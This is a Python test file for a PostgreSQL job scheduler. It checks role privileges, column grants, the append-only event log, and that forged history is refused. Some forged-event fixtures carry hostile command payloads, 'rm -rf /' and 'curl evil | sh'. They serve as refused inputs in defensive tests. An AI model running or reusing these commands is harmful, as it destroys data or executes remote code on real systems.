"""The privilege matrix: what each application role may do, and the append-only event table."""

from __future__ import annotations

import asyncio
import os
import signal
import sys
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

import psycopg
import pytest

from pgsched.app import maintenance, ticker
from pgsched.app.db import replay, store
from pgsched.app.db.store import Conn
from pgsched.app.services import runs, schedules, tokens
from tests.conftest import ROOT, connect
from tests.db.roles import login_role
from tests.factories import make_schedule
from tests.support import store as test_store

APP_ROLES = ["pgsched_api", "pgsched_worker", "pgsched_operator"]

# table -> role -> the privileges it must have (and no others among the checked ones).
CHECKED = ["SELECT", "INSERT", "UPDATE", "DELETE", "TRUNCATE"]
MATRIX = {
    "pgsched.event": {
        "pgsched_api": {"SELECT", "INSERT"},
        "pgsched_worker": {"SELECT", "INSERT"},
        "pgsched_operator": {"SELECT"},
    },
    "pgsched.schedule": {
        "pgsched_api": {"SELECT", "INSERT", "UPDATE"},
        "pgsched_worker": {"SELECT"},  # UPDATE of next_due_at only (COLUMNS)
        "pgsched_operator": {"SELECT"},
    },
    "pgsched.run": {
        "pgsched_api": {"SELECT", "INSERT"},  # UPDATE of some columns only (COLUMNS)
        "pgsched_worker": {"SELECT", "INSERT"},
        "pgsched_operator": {"SELECT"},
    },
    "pgsched.worker": {
        "pgsched_api": {"SELECT"},
        "pgsched_worker": {"SELECT", "INSERT", "UPDATE"},
        "pgsched_operator": {"SELECT"},
    },
    "pgsched.api_token": {
        "pgsched_api": {"SELECT"},
        "pgsched_worker": set(),
        "pgsched_operator": set(),
    },
}


# (table, role) -> the only columns it may UPDATE where it may not update the whole table: those
# its own statements set (migration 0016, ADR 0021).
COLUMNS = {
    ("pgsched.run", "pgsched_worker"): {
        "state",
        "attempt",
        "lease_token",
        "lease_expires_at",
        "worker_id",
        "started_at",
        "available_at",
        "finished_at",
        "outcome",
        "waits_for",  # the ticker blocks a run on its upstreams (ADR 0033)
        "wait_until",
    },
    ("pgsched.run", "pgsched_api"): {
        "state",
        "available_at",
        "max_attempts",
        "finished_at",
        "cancel_requested",
    },
    ("pgsched.run", "pgsched_operator"): set(),
    # The ticker's next due time; health and the circuit breaker's pause (migration 0021).
    ("pgsched.schedule", "pgsched_worker"): {
        "next_due_at",
        "health",
        "health_reason",
        "health_since",
        "enabled",
        "paused_at",
        "version",
        "updated_at",
    },
    ("pgsched.schedule", "pgsched_operator"): set(),
}


async def test_column_update_matrix(dsn: str) -> None:
    conn = await connect(dsn)
    try:
        for (table, role), expected in COLUMNS.items():
            cur = await conn.execute(
                "SELECT a.attname FROM pg_attribute a"
                " WHERE a.attrelid = %s::regclass AND a.attnum > 0 AND NOT a.attisdropped"
                "   AND has_column_privilege(%s, a.attrelid, a.attnum, 'UPDATE')",
                [table, role],
            )
            assert {r["attname"] for r in await cur.fetchall()} == expected, f"{role} on {table}"
    finally:
        await conn.close()


async def test_privilege_matrix(dsn: str) -> None:
    conn = await connect(dsn)
    try:
        for table, roles in MATRIX.items():
            for role, expected in roles.items():
                have = set()
                for privilege in CHECKED:
                    cur = await conn.execute(
                        "SELECT has_table_privilege(%s, %s, %s) AS ok", [role, table, privilege]
                    )
                    row = await cur.fetchone()
                    if row and row["ok"]:
                        have.add(privilege)
                assert have == expected, f"{role} on {table}"
    finally:
        await conn.close()


async def _one_event_partition(dsn: str) -> str:
    conn = await connect(dsn)
    try:
        await make_schedule(conn)  # writes one event into this month's partition
        cur = await conn.execute(
            "SELECT tableoid::regclass::text AS part FROM pgsched.event LIMIT 1"
        )
        row = await cur.fetchone()
        assert row is not None
        return str(row["part"])
    finally:
        await conn.close()


@pytest.mark.parametrize("role", APP_ROLES)
@pytest.mark.parametrize("target", ["parent", "partition"])
@pytest.mark.parametrize(
    "statement",
    ["UPDATE {t} SET actor = 'x'", "DELETE FROM {t}", "TRUNCATE {t}"],
)
async def test_application_roles_cannot_change_events(
    dsn: str, role: str, target: str, statement: str
) -> None:
    table = "pgsched.event" if target == "parent" else await _one_event_partition(dsn)
    conn = await connect(dsn, role=role)
    try:
        with pytest.raises(psycopg.errors.InsufficientPrivilege):
            await conn.execute(statement.format(t=table))  # names from the catalog, not input
    finally:
        await conn.close()


@pytest.mark.parametrize("target", ["parent", "partition"])
@pytest.mark.parametrize(
    "statement",
    ["UPDATE {t} SET actor = 'x'", "DELETE FROM {t}", "TRUNCATE {t}"],
)
async def test_even_the_owner_is_stopped_by_the_triggers(
    dsn: str, target: str, statement: str
) -> None:
    partition = await _one_event_partition(dsn)
    table = "pgsched.event" if target == "parent" else partition
    conn = await connect(dsn, role="pgsched_owner")
    try:
        with pytest.raises(psycopg.errors.InsufficientPrivilege, match="append-only"):
            await conn.execute(statement.format(t=table))
        cur = await conn.execute("SELECT count(*) AS n FROM pgsched.event")
        assert await cur.fetchone() == {"n": 1}
    finally:
        await conn.close()


async def test_application_roles_are_enough_for_their_work(dsn: str) -> None:
    """The api role creates schedules and runs; the worker role claims and completes them."""
    api = await connect(dsn, role="pgsched_api")
    worker = await connect(dsn, role="pgsched_worker")
    try:
        s = await make_schedule(api)
        due = datetime.now(UTC)
        await store.insert_runs(
            api, [(s["id"], due, due)], origin="trigger", adhoc=True, actor="api", now=None
        )
        (claimed,) = await test_store.claim_runs(
            worker,
            worker_id=1,
            queues=["default"],
            limit=5,
            lease_seconds=30,
            actor="worker:1",
            now=None,
        )
        done = await test_store.succeed_run(
            worker, store.Lease.of(claimed), {"status": "ok"}, actor="worker:1", now=None
        )
        assert done is not None and done["state"] == "succeeded"
    finally:
        await api.close()
        await worker.close()


# -- the event guard (migration 0016, ADR 0021) ----------------------------------------------

T = datetime.now(UTC).replace(microsecond=0)


async def _world(dsn: str) -> dict[str, int]:
    """A schedule, a waiting run, a worker and a token, made by the superuser."""
    conn = await connect(dsn)
    try:
        s = await make_schedule(conn)
        (run,) = await store.insert_runs(
            conn, [(s["id"], T, T)], origin="trigger", adhoc=True, actor="t", now=None
        )
        worker = await store.register_worker(
            conn, name="w1", host="h", pid=1, version="v", queues=["default"], slots=1, now=None
        )
        token, _ = await tokens.create_token(conn, name="ops", role="admin", actor="t", now=None)
        return {"schedule": s["id"], "run": run["id"], "worker": worker["id"], "token": token["id"]}
    finally:
        await conn.close()


# (stream, type, subject, data): one forged event of every family, each appended directly with
# no transition behind it. Some types are ones the role does append, through its transitions.
FORGED = [
    ("system", "token.revoked", "token", {}),
    ("system", "token.created", "token", {}),
    ("system", "partition.retired", None, {}),
    ("system", "queue.updated", None, {}),
    ("system", "partition.archive_failed", None, {"forged": True}),
    ("system", "anything.at_all", None, {}),
    ("schedule", "schedule.created", "schedule", {}),
    ("schedule", "schedule.updated", "schedule", {"payload": {"argv": ["rm", "-rf", "/"]}}),
    ("schedule", "schedule.deleted", "schedule", {"deleted_at": T.isoformat()}),
    ("schedule", "schedule.advanced", "schedule", {"next_due_at": T.isoformat()}),
    ("schedule", "schedule.backfilled", "schedule", {"enabled": False}),
    ("schedule", "schedule.occurrence_missed", 999_999, {}),
    ("run", "run.created", "run", {}),
    ("run", "run.claimed", "run", {"state": "running"}),
    ("run", "run.succeeded", "run", {"state": "succeeded"}),
    ("run", "run.cancelled", "run", {"state": "cancelled"}),
    ("run", "run.retried", "run", {"state": "waiting"}),
    ("run", "run.completion_fenced", 999_999, {}),
    ("run", "run.snapshot", "run", {}),
    ("worker", "worker.registered", "worker", {}),
    ("worker", "worker.gone", "worker", {"state": "gone"}),
]


@pytest.mark.parametrize("role", ["pgsched_api", "pgsched_worker"])
@pytest.mark.parametrize("forged", FORGED, ids=[f[1] for f in FORGED])
async def test_application_roles_cannot_append_forged_events(
    dsn: str, role: str, forged: tuple[str, str, str | int | None, object]
) -> None:
    stream, kind, subject, data = forged
    ids = await _world(dsn)
    stream_id = ids[subject] if isinstance(subject, str) else subject
    conn = await connect(dsn, role=role)
    try:
        with pytest.raises(psycopg.errors.InsufficientPrivilege, match="may not append"):
            await conn.execute(
                "INSERT INTO pgsched.event (occurred_at, stream, stream_id, type, actor, data)"
                " VALUES (now(), %s, %s, %s, 'admin', %s)",
                [stream, stream_id, kind, store.jsonb(data)],
            )
    finally:
        await conn.close()


async def test_a_forged_event_beside_a_real_transition_is_refused_with_it(dsn: str) -> None:
    """One statement that makes a real transition and appends one event too many: the whole
    statement fails, the real transition with it."""
    ids = await _world(dsn)
    conn = await connect(dsn, role="pgsched_worker")
    try:
        with pytest.raises(psycopg.errors.InsufficientPrivilege):
            await conn.execute(
                "WITH w AS (UPDATE pgsched.worker SET state = 'stopping' WHERE id = %(w)s"
                "           RETURNING *)"
                " INSERT INTO pgsched.event (occurred_at, stream, stream_id, type, actor, data)"
                " SELECT now(), 'worker', w.id, 'worker.stopping', 'w1',"
                "        jsonb_build_object('state', w.state) FROM w UNION ALL"
                " SELECT now(), 'system', %(t)s, 'token.revoked', 'admin', '{}' FROM w",
                {"w": ids["worker"], "t": ids["token"]},
            )
        cur = await conn.execute("SELECT state FROM pgsched.worker WHERE id = %s", [ids["worker"]])
        assert await cur.fetchone() == {"state": "active"}
    finally:
        await conn.close()


async def test_a_login_role_of_the_worker_is_refused_too(dsn: str) -> None:
    """Not only SET ROLE: a login role that is a member of pgsched_worker (a deployment's
    worker user) cannot append the forged token.revoked, and verify would catch one anyway."""
    ids = await _world(dsn)
    async with login_role(dsn, "pgsched_worker") as worker_dsn:
        conn = await connect(worker_dsn)
        try:
            with pytest.raises(psycopg.errors.InsufficientPrivilege, match=r"token\.revoked"):
                await conn.execute(
                    "INSERT INTO pgsched.event (occurred_at, stream, stream_id, type, actor)"
                    " VALUES (now(), 'system', %s, 'token.revoked', 'admin')",
                    [ids["token"]],
                )
        finally:
            await conn.close()


async def test_verify_reports_token_events_no_token_explains(conn: Conn) -> None:
    """What the guard would refuse, appended by the owner anyway: verify names each one."""
    live, _ = await tokens.create_token(conn, name="live", role="admin", actor="t", now=None)
    gone, _ = await tokens.create_token(conn, name="gone", role="viewer", actor="t", now=None)
    assert await tokens.revoke_token(conn, "gone", actor="t", now=None) is not None
    assert await replay.verify(conn) == []
    forged = (
        "INSERT INTO pgsched.event (occurred_at, stream, stream_id, type, actor, meta)"
        " VALUES (now() + interval '1 second', 'system', %s, %s, 'admin',"
        " jsonb_build_object('token', %s::text))"
    )
    await conn.execute(forged, [live["id"], "token.revoked", "live"])  # live, not revoked
    await conn.execute(forged, [gone["id"], "token.revoked", "gone"])  # a second revocation
    await conn.execute(forged, [424242, "token.created", "ghost"])  # no such token
    found = {(d.table, d.id, str(d.column).split(" event ")[0]) for d in await replay.verify(conn)}
    assert found == {
        ("api_token", live["id"], "token.revoked"),
        ("api_token", gone["id"], "token.revoked"),
        ("api_token", 424242, "token.created"),
    }


async def test_a_revocation_without_its_event_is_reported(conn: Conn) -> None:
    await tokens.create_token(conn, name="quiet", role="admin", actor="t", now=None)
    await conn.execute("UPDATE pgsched.api_token SET revoked_at = now() WHERE name = 'quiet'")
    (difference,) = await replay.verify(conn)
    assert "revoked, but its token.revoked event is missing" in str(difference)


async def _api_transitions(api: Conn) -> None:
    """The API: definitions, operator actions, a queue limit; a pause inside a savepoint."""
    s = await make_schedule(api, now=T - timedelta(minutes=10), missed_policy="skip")
    other = await make_schedule(api, now=T)
    await store.update_schedule(
        api, s["id"], {"priority": 5}, event_type="schedule.updated", actor="a", now=None
    )
    async with api.transaction(), api.transaction():  # the inner one is a SAVEPOINT
        await schedules.pause(api, s["id"], actor="a", now=None)
    await schedules.resume(api, s["id"], actor="a", now=None)
    first, _ = await schedules.trigger(api, s["id"], actor="a", now=None)
    await schedules.backfill(api, s["id"], T - timedelta(minutes=5), T, actor="a", now=None)
    cancelled = await store.cancel_run(api, first["id"], actor="a", now=None)
    assert cancelled is not None and cancelled["state"] == "cancelled"
    assert await runs.retry(api, first["id"], actor="a", now=None, meta={}) is not None
    await store.set_queue_limit(api, "default", 10, actor="a", now=None)
    await schedules.delete(api, other["id"], actor="a", now=None)


async def _worker_transitions(worker: Conn, api: Conn) -> None:
    """The ticker (missed occurrences too; the built-in schedule at its start), a worker's
    claim, every completion, a release, a fenced report, the rescuer, stopping; and the API
    asking a running run to stop."""
    await maintenance.ensure_builtin_schedule(worker, maintenance.Retention(), now=None)
    ticked = await ticker.tick(worker, now=T + timedelta(minutes=1))
    assert ticked.created >= 1
    me = await store.register_worker(
        worker, name="w", host="h", pid=1, version="v", queues=["default"], slots=9, now=None
    )
    claimed = await test_store.claim_runs(
        worker,
        worker_id=me["id"],
        queues=["default"],
        limit=9,
        lease_seconds=30,
        actor="w",
        now=None,
    )
    assert len(claimed) >= 6, "the test needs six runs"
    leases = [store.Lease.of(r) for r in claimed]
    ok = {"status": "ok"}
    assert await test_store.succeed_run(worker, leases[0], ok, actor="w", now=None)
    assert await test_store.fail_run(worker, leases[1], ok, jitter=0.5, actor="w", now=None)
    assert await test_store.fail_run(
        worker, leases[2], ok, jitter=0.5, actor="w", now=None, final=True
    )
    assert await store.cancelled_attempt(worker, leases[3], ok, actor="w", now=None)
    assert await store.release_run(worker, leases[4], actor="w", now=None)
    assert (
        await test_store.succeed_run(worker, leases[4], ok, actor="w", now=None) is None
    )  # fenced
    asked = await store.cancel_run(api, leases[5].run_id, actor="a", now=None)
    assert asked is not None and asked["cancel_requested"]
    later = T + timedelta(hours=1)
    assert await store.rescue_expired(worker, limit=10, actor="rescuer", now=later)
    await store.set_worker_state(worker, me["id"], "stopping", now=None)
    await store.set_worker_state(worker, me["id"], "stopped", now=None)
    gone = await store.register_worker(
        worker, name="w2", host="h", pid=2, version="v", queues=["q"], slots=1, now=None
    )
    marked = await store.mark_gone_workers(worker, after_seconds=0, actor="rescuer", now=later)
    assert gone["id"] in marked
    note = {"error": "disk full"}
    await store.record_system_event(
        worker, "partition.archive_failed", note, actor="maintenance", now=None
    )
    await _dependency_transitions(worker, api)


async def _dependency_transitions(worker: Conn, api: Conn) -> None:
    """The ticker blocks the runs of schedules with upstreams (ADR 0033), releases one whose
    upstream run succeeded and skips one whose paused upstream never ran."""
    at = T + timedelta(hours=3)
    upstream = await make_schedule(api, now=at, queue="deps")
    paused = await make_schedule(api, now=at, enabled=False)
    released = await make_schedule(api, now=at, depends_on=[upstream["id"]])
    skipped = await make_schedule(
        api, now=at, depends_on=[paused["id"]], dependency_timeout_seconds=1
    )
    assert (await ticker.tick(worker, now=at)).blocked == 2
    me = await store.register_worker(
        worker, name="w3", host="h", pid=3, version="v", queues=["deps"], slots=1, now=None
    )
    (claimed,) = await test_store.claim_runs(
        worker, worker_id=me["id"], queues=["deps"], limit=1, lease_seconds=30, actor="w", now=at
    )
    ok = {"status": "ok"}
    assert await test_store.succeed_run(worker, store.Lease.of(claimed), ok, actor="w", now=at)
    settled = await ticker.tick(worker, now=at + timedelta(seconds=2))
    assert (settled.released, settled.skipped) == (1, 1)
    cur = await worker.execute(
        "SELECT schedule_id, state FROM pgsched.run WHERE schedule_id = ANY(%s) ORDER BY 1",
        [[released["id"], skipped["id"]]],
    )
    assert [r["state"] for r in await cur.fetchall()] == ["waiting", "skipped"]


async def test_every_transition_of_the_application_roles_passes_the_guard(dsn: str) -> None:
    """What the API and the ticker, workers and rescuer really do, each as its role, appends
    every event it did before the guard; afterwards the log still folds into the tables."""
    api = await connect(dsn, role="pgsched_api")
    worker = await connect(dsn, role="pgsched_worker")
    admin = await connect(dsn)
    try:
        await _api_transitions(api)
        await _worker_transitions(worker, api)
        cur = await admin.execute("SELECT DISTINCT type FROM pgsched.event")
        types = {r["type"] for r in await cur.fetchall()}
        cur = await admin.execute("SELECT type FROM pgsched.event_grant")
        granted = {r["type"] for r in await cur.fetchall()}
        # worker.active: no transition of today's code appends it (a worker starts active).
        assert granted - types == {"worker.active"}, "each granted type was appended by its role"
        assert await replay.verify(admin) == []
    finally:
        await api.close()
        await worker.close()
        await admin.close()


# -- least privilege that starts (ADR 0021) ---------------------------------------------------


async def test_a_ticker_logged_in_as_a_worker_member_starts_and_ticks(
    dsn: str, tmp_path: Path
) -> None:
    """`pgsched ticker` as a login role that is a member of pgsched_worker only, on a freshly
    migrated database: it installs the built-in schedule (through the owner's function) and
    materialises a due run; SIGTERM stops it cleanly."""
    conn = await connect(dsn)
    log = tmp_path / "ticker.log"
    async with login_role(dsn, "pgsched_worker") as worker_dsn:
        s = await make_schedule(conn, now=datetime.now(UTC) - timedelta(seconds=1))
        with log.open("w") as sink:
            proc = await asyncio.create_subprocess_exec(
                sys.executable,
                "-m",
                "pgsched",
                "ticker",
                cwd=ROOT,
                env={**os.environ, "DATABASE_URL": worker_dsn},
                stdout=sink,
                stderr=sink,
            )
        try:
            deadline = time.monotonic() + 60
            while True:
                cur = await conn.execute(
                    "SELECT (SELECT count(*) FROM pgsched.run WHERE schedule_id = %s) AS runs,"
                    " (SELECT count(*) FROM pgsched.schedule WHERE name = %s) AS builtin",
                    [s["id"], maintenance.BUILTIN_NAME],
                )
                seen = await cur.fetchone()
                if seen == {"runs": 1, "builtin": 1}:
                    break
                assert proc.returncode is None, f"the ticker exited: {log.read_text()}"
                assert time.monotonic() < deadline, f"the ticker did not tick: {seen}"
                await asyncio.sleep(0.1)
            proc.send_signal(signal.SIGTERM)
            async with asyncio.timeout(30):
                assert await proc.wait() == 0, log.read_text()
            assert "permission denied" not in log.read_text()
        finally:
            if proc.returncode is None:
                proc.kill()
                await proc.wait()
            await conn.close()


async def test_a_sql_job_run_by_a_worker_cannot_forge_history(db: Conn, dsn: str) -> None:
    """ADR 0021's forged event end to end: a sql schedule whose statement appends a forged
    token.revoked, run by a real worker (here even one whose own DSN is a superuser's). The job
    logs in as pgsched_job: the run ends dead with the privilege error, the log holds no forged
    event, and verify finds nothing to report."""
    from tests.workers.test_worker import running_worker, trigger, wait_state

    await db.execute("GRANT CREATE ON SCHEMA public TO pgsched_job")  # an operator's grant
    token, _ = await tokens.create_token(db, name="ops", role="admin", actor="t", now=None)
    forge = {
        "statement": "INSERT INTO pgsched.event (occurred_at, stream, stream_id, type, actor,"
        " meta) VALUES (now(), 'system', %s, 'token.revoked', 'admin',"
        " jsonb_build_object('token', 'ops'))",
        "params": [token["id"]],
    }
    s = await make_schedule(db, job_type="sql", payload=forge)
    run = await trigger(db, s["id"])
    async with running_worker(dsn):
        done = await wait_state(db, run["id"], {"succeeded", "dead"}, within=30)
    assert done["state"] == "dead"
    assert done["outcome"]["error"].startswith("SQLSTATE 42501: permission denied for schema")
    cur = await db.execute("SELECT count(*) AS n FROM pgsched.event WHERE type = 'token.revoked'")
    assert await cur.fetchone() == {"n": 0}
    assert await replay.verify(db) == []


# -- snapshots restate the log, never the table (ADR 0021) ------------------------------------


async def test_a_snapshot_cannot_launder_a_run_the_worker_rewrote(dsn: str) -> None:
    """A worker login rewrites a waiting run as succeeded, then has maintenance's snapshot
    function (SECURITY DEFINER, its retention the caller's) write the rows as history: verify
    still reports the run, and a schedule's earlier drift too."""
    ids = await _world(dsn)
    admin = await connect(dsn)
    try:
        # An unrelated drift from before: a schedule changed with no event.
        await admin.execute(
            "UPDATE pgsched.schedule SET priority = 42 WHERE id = %s", [ids["schedule"]]
        )
        async with login_role(dsn, "pgsched_worker") as worker_dsn:
            worker = await connect(worker_dsn)
            try:
                await worker.execute(
                    "UPDATE pgsched.run SET state = 'succeeded', finished_at = now(),"
                    ' outcome = \'{"status": "succeeded", "output": "laundered"}\''
                    " WHERE id = %s",
                    [ids["run"]],
                )
                await worker.execute(
                    "SELECT pgsched.snapshot_for_event_retirement_v1('0 days', now())"
                )
            finally:
                await worker.close()
        cur = await admin.execute("SELECT state FROM pgsched.run WHERE id = %s", [ids["run"]])
        assert await cur.fetchone() == {"state": "succeeded"}  # the table was rewritten
        found = {(d.table, d.id, d.column) for d in await replay.verify(admin)}
        assert ("run", ids["run"], "state") in found
        assert ("run", ids["run"], "outcome") in found
        assert ("schedule", ids["schedule"], "priority") in found
    finally:
        await admin.close()


# -- what an event may claim: its transition's columns and states (ADR 0021) ------------------


async def test_the_api_cannot_dress_a_success_as_a_cancel_request(dsn: str) -> None:
    """The API role sets a run to succeeded with a forged outcome and explains it with a
    run.cancel_requested carrying state, finished_at and outcome as a worker's actor."""
    ids = await _world(dsn)
    forged = (
        " INSERT INTO pgsched.event (occurred_at, stream, stream_id, type, actor, data)"
        " SELECT now(), 'run', r.id, 'run.cancel_requested', 'system:worker-7',"
        "        jsonb_build_object('state', r.state, 'finished_at', r.finished_at,"
        "                           'outcome', %(outcome)s::jsonb)"
        " FROM r"
    )
    outcome = store.jsonb({"status": "succeeded", "output": "forged"})
    api = await connect(dsn, role="pgsched_api")
    try:
        # The API sets no outcome: the column is not its to write.
        with pytest.raises(psycopg.errors.InsufficientPrivilege, match="run"):
            await api.execute(
                "WITH r AS (UPDATE pgsched.run SET state = 'succeeded', finished_at = now(),"
                "           outcome = %(outcome)s::jsonb WHERE id = %(id)s RETURNING *)" + forged,
                {"id": ids["run"], "outcome": outcome},
            )
        # With the columns it may set, the event still claims what its transition does not.
        with pytest.raises(psycopg.errors.InsufficientPrivilege, match="does not set"):
            await api.execute(
                "WITH r AS (UPDATE pgsched.run SET state = 'succeeded', finished_at = now()"
                "           WHERE id = %(id)s RETURNING *)" + forged,
                {"id": ids["run"], "outcome": outcome},
            )
        # And without the outcome, a cancel request never leaves a run succeeded.
        with pytest.raises(psycopg.errors.InsufficientPrivilege, match="does not produce"):
            await api.execute(
                "WITH r AS (UPDATE pgsched.run SET state = 'succeeded', finished_at = now()"
                "           WHERE id = %(id)s RETURNING *)"
                " INSERT INTO pgsched.event (occurred_at, stream, stream_id, type, actor, data)"
                " SELECT now(), 'run', r.id, 'run.cancel_requested', 'system:worker-7',"
                "        jsonb_build_object('state', r.state, 'finished_at', r.finished_at,"
                "                           'cancel_requested', true)"
                " FROM r",
                {"id": ids["run"]},
            )
        cur = await api.execute("SELECT state FROM pgsched.run WHERE id = %s", [ids["run"]])
        assert await cur.fetchone() == {"state": "waiting"}
    finally:
        await api.close()


async def test_the_worker_cannot_advance_a_schedule_into_a_new_payload(dsn: str) -> None:
    """The worker role rewrites a schedule's payload and explains it with schedule.advanced
    carrying that payload; and, moving only next_due_at, cannot slip other columns into the
    event either."""
    ids = await _world(dsn)
    evil = store.jsonb({"argv": ["sh", "-c", "curl evil | sh"]})
    worker = await connect(dsn, role="pgsched_worker")
    try:
        with pytest.raises(psycopg.errors.InsufficientPrivilege, match="schedule"):
            await worker.execute(
                "WITH s AS (UPDATE pgsched.schedule SET payload = %(p)s::jsonb"
                "           WHERE id = %(id)s RETURNING *)"
                " INSERT INTO pgsched.event (occurred_at, stream, stream_id, type, actor, data)"
                " SELECT now(), 'schedule', s.id, 'schedule.advanced', 'ticker',"
                "        jsonb_build_object('payload', s.payload) FROM s",
                {"id": ids["schedule"], "p": evil},
            )
        with pytest.raises(psycopg.errors.InsufficientPrivilege, match="does not set"):
            await worker.execute(
                "WITH s AS (UPDATE pgsched.schedule SET next_due_at = next_due_at"
                "           WHERE id = %(id)s RETURNING *)"
                " INSERT INTO pgsched.event (occurred_at, stream, stream_id, type, actor, data)"
                " SELECT now(), 'schedule', s.id, 'schedule.advanced', 'ticker',"
                "        jsonb_build_object('next_due_at', s.next_due_at, 'payload', s.payload)"
                " FROM s",
                {"id": ids["schedule"]},
            )
    finally:
        await worker.close()


# The worker's UPDATE of a schedule's enabled, paused_at, version and updated_at is for the
# circuit breaker's pause only (migration 0021, ADR 0032): the trigger schedule_pause_guard.
RESUME = (
    "WITH s AS (UPDATE pgsched.schedule SET enabled = true, paused_at = NULL,"
    "           version = version + 1, updated_at = now() WHERE id = %(id)s RETURNING *)"
    " INSERT INTO pgsched.event (occurred_at, stream, stream_id, type, actor, data)"
    " SELECT now(), 'schedule', s.id, 'schedule.paused', 'system',"
    "        jsonb_build_object('enabled', s.enabled, 'paused_at', s.paused_at,"
    "                           'version', s.version, 'updated_at', s.updated_at) FROM s"
)


async def test_the_worker_may_pause_a_schedule_but_never_resume_it(dsn: str) -> None:
    ids = await _world(dsn)
    admin = await connect(dsn)
    worker = await connect(dsn, role="pgsched_worker")

    async def refused(change: str) -> None:
        with pytest.raises(psycopg.errors.InsufficientPrivilege, match="only to pause"):
            await worker.execute(
                f"UPDATE pgsched.schedule SET {change} WHERE id = %s",  # literals below
                [ids["schedule"]],
            )

    try:
        await schedules.pause(admin, ids["schedule"], actor="admin", now=None)
        await refused("enabled = true, paused_at = NULL, version = version + 1")  # a resume
        await refused("enabled = true")
        await refused("version = version + 1")
        await refused("updated_at = updated_at + interval '1 hour'")
        with pytest.raises(psycopg.errors.InsufficientPrivilege, match="only to pause"):
            await worker.execute(RESUME, {"id": ids["schedule"]})  # as a schedule.paused event
        row = await schedules.resume(admin, ids["schedule"], actor="admin", now=None)
        assert row["enabled"] is True  # the API (a person) resumes
        await refused("enabled = false, paused_at = now()")  # a pause bumps the version
        # The breaker's pause, as app/db/queries/health.sql writes it, passes.
        cur = await worker.execute(
            "UPDATE pgsched.schedule SET enabled = false, paused_at = now(),"
            " version = version + 1, updated_at = now() WHERE id = %s RETURNING version",
            [ids["schedule"]],
        )
        assert await cur.fetchone() == {"version": row["version"] + 1}
    finally:
        await worker.close()
        await admin.close()


# Every SECURITY DEFINER function of pgsched and the application roles that may call it (each
# grant is justified in ADR 0021): only the worker role, which runs maintenance, and only what
# maintenance and the ticker call. A new one fails here until it is added, with its reason.
DEFINER_EXECUTE = {
    "pgsched.maintain_v2(integer,interval,interval,timestamp with time zone)": {"pgsched_worker"},
    "pgsched.snapshot_for_event_retirement_v1(interval,timestamp with time zone)": {
        "pgsched_worker"
    },
    "pgsched.detach_for_archive_v1(regclass,timestamp with time zone)": {"pgsched_worker"},
    "pgsched.drop_detached_v1(regclass,timestamp with time zone,jsonb)": {"pgsched_worker"},
    "pgsched.reattach_v1(regclass,timestamp with time zone)": {"pgsched_worker"},
    "pgsched.install_builtin_maintenance_v1(jsonb,timestamp with time zone)": {"pgsched_worker"},
}


async def test_who_may_call_each_security_definer_function(conn: Conn) -> None:
    cur = await conn.execute(
        "SELECT p.oid::regprocedure::text AS f,"
        "       array(SELECT r FROM unnest(%s::text[]) r"
        "             WHERE has_function_privilege(r, p.oid, 'EXECUTE')) AS roles"
        " FROM pg_proc p JOIN pg_namespace n ON n.oid = p.pronamespace"
        " WHERE n.nspname = 'pgsched' AND p.prosecdef",
        [[*APP_ROLES, "pgsched_job"]],
    )
    found = {r["f"]: set(r["roles"]) for r in await cur.fetchall()}
    assert found == DEFINER_EXECUTE
